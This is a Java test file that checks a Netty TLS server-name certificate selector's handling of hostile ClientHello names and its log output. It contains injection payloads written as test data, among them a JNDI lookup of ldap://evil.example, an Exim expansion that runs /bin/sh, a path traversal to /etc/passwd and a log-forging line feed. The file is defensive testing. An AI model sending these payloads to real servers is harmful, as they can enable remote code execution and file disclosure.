package io.github.mailsni.netty;

import static io.github.mailsni.netty.HelloBytes.hello;
import static io.github.mailsni.netty.HelloBytes.helloFor;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;
import static java.util.Objects.requireNonNull;
import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import io.github.mailsni.RequestedName;
import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.channel.embedded.EmbeddedChannel;
import io.netty.handler.ssl.SslProvider;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.slf4j.LoggerFactory;

@Tag("jdk")
@DisplayName("A hostile name in a ClientHello")
class HostileNamesTest {
    private static final int ALERT = 21;
    private static final int HANDSHAKE = 22;
    private static final Map<String, byte[]> NAMES = names();

    private final Logger log = (Logger) LoggerFactory.getLogger("io.github.mailsni.selection");
    private final ListAppender<ILoggingEvent> lines = new ListAppender<>();
    private final TestSelector selector = TestHosts.selector();

    private static Map<String, byte[]> names() {
        Map<String, byte[]> names = new TreeMap<>();
        names.put("path traversal", ascii("../../../../etc/passwd"));
        names.put("dots", ascii(".."));
        names.put("slash", ascii("a.example/b"));
        names.put("backslash", ascii("..\\a.example"));
        names.put("NUL in the middle", ascii("a.example\0.evil.example"));
        names.put("NUL alone", new byte[1]);
        names.put("line feed", ascii("a.example\nWARN forged line"));
        names.put("terminal escape", ascii("\u001b[2Ja.example"));
        names.put("Exim's expansion", ascii("${run{/bin/sh}}"));
        names.put("JNDI", ascii("${jndi:ldap://evil.example/a}"));
        names.put("64 bytes in a label", ascii("a".repeat(64) + ".example"));
        names.put("254 bytes", ascii("a.".repeat(127)));
        names.put("256 bytes", ascii("a".repeat(256)));
        names.put("15000 bytes", ascii("a.".repeat(7500)));
        names.put("UTF-8", "bücher.example".getBytes(UTF_8));
        names.put("long s of Unicode", "a.\u017fexample".getBytes(UTF_8));
        names.put("broken UTF-8", new byte[] {(byte) 0xc3, (byte) 0x28, (byte) 0xff, '.', 'a'});
        names.put("IP literal", ascii("192.0.2.1"));
        names.put("IPv6 literal", ascii("::1"));
        names.put("wildcard", ascii("*.example"));
        names.put("blank", ascii(" "));
        return names;
    }

    private static byte[] ascii(String text) {
        return text.getBytes(US_ASCII);
    }

    static Stream<Arguments> namesAndEngines() {
        return NAMES.keySet().stream()
                .flatMap(name ->
                        Stream.of(Arguments.of(name, SslProvider.JDK), Arguments.of(name, SslProvider.OPENSSL)));
    }

    @BeforeEach
    void listen() {
        lines.start();
        log.addAppender(lines);
        log.setLevel(Level.DEBUG);
        log.setAdditive(false);
    }

    @AfterEach
    void close() {
        log.setLevel(null);
        log.setAdditive(true);
        log.detachAppender(lines);
        selector.close();
    }

    private EmbeddedChannel receive(SslProvider provider, byte[] hello) {
        EmbeddedChannel channel = new EmbeddedChannel(
                SniTls.builder(selector).provider(provider).build().newHandler());
        channel.writeInbound(Unpooled.wrappedBuffer(hello));
        channel.runPendingTasks();
        return channel;
    }

    private static int firstByteSent(EmbeddedChannel channel) {
        ByteBuf first = channel.readOutbound();
        int type = first == null ? 0 : first.getUnsignedByte(0);
        if (first != null) {
            first.release();
        }
        return type;
    }

    @ParameterizedTest(name = "{0}, {1}")
    @MethodSource("namesAndEngines")
    @DisplayName("gets the default certificate, or the engine's alert, and one harmless line in the log")
    void getsTheDefaultOrAnAlert(String name, SslProvider provider) {
        EmbeddedChannel channel = receive(
                provider, hello().asking(requireNonNull(NAMES.get(name))).record());

        assertThat(firstByteSent(channel)).isIn(ALERT, HANDSHAKE);
        channel.checkException();
        channel.finishAndReleaseAll();
        assertThat(lines.list).singleElement().satisfies(line -> {
            assertThat(line.getFormattedMessage()).matches("[ -~]+").hasSizeLessThan(1500);
            assertThat(line.getFormattedMessage()).contains("mx.example");
            assertThat(line.getThrowableProxy()).isNull();
        });
    }

    @ParameterizedTest(name = "{0}")
    @EnumSource(names = {"JDK", "OPENSSL"})
    @DisplayName("twice in one ClientHello, or empty, is refused")
    void severalOrEmpty(SslProvider provider) {
        for (HelloBytes hello : new HelloBytes[] {
            helloFor("a.example").asking(ascii("b.example")), hello().asking(new byte[0]), hello().askingForNothing()
        }) {
            EmbeddedChannel channel = receive(provider, hello.record());

            assertThat(firstByteSent(channel)).isEqualTo(ALERT);
            assertThat(channel.isOpen()).isFalse();
            channel.checkException();
            channel.finishAndReleaseAll();
        }
        assertThat(lines.list).hasSize(3);
    }

    @Test
    @DisplayName(
            "is served by the OpenSSL provider if it is only odd: an underscore has a certificate, what is no name the default")
    void oddNamesAreServedByOpenSsl() {
        for (String odd : new String[] {"under_score.example", "-a.example", "a..example", "..", "a.example."}) {
            EmbeddedChannel channel = receive(SslProvider.OPENSSL, helloFor(odd).record());

            assertThat(firstByteSent(channel)).as(odd).isEqualTo(HANDSHAKE);
            channel.finishAndReleaseAll();
        }
    }

    @Test
    @DisplayName("is cut in the log")
    void isCut() {
        String shown = RequestedName.fromSni("\u00ff".repeat(15_000).getBytes(ISO_8859_1))
                .toString();

        assertThat(shown).hasSizeLessThan(1100);
    }
}
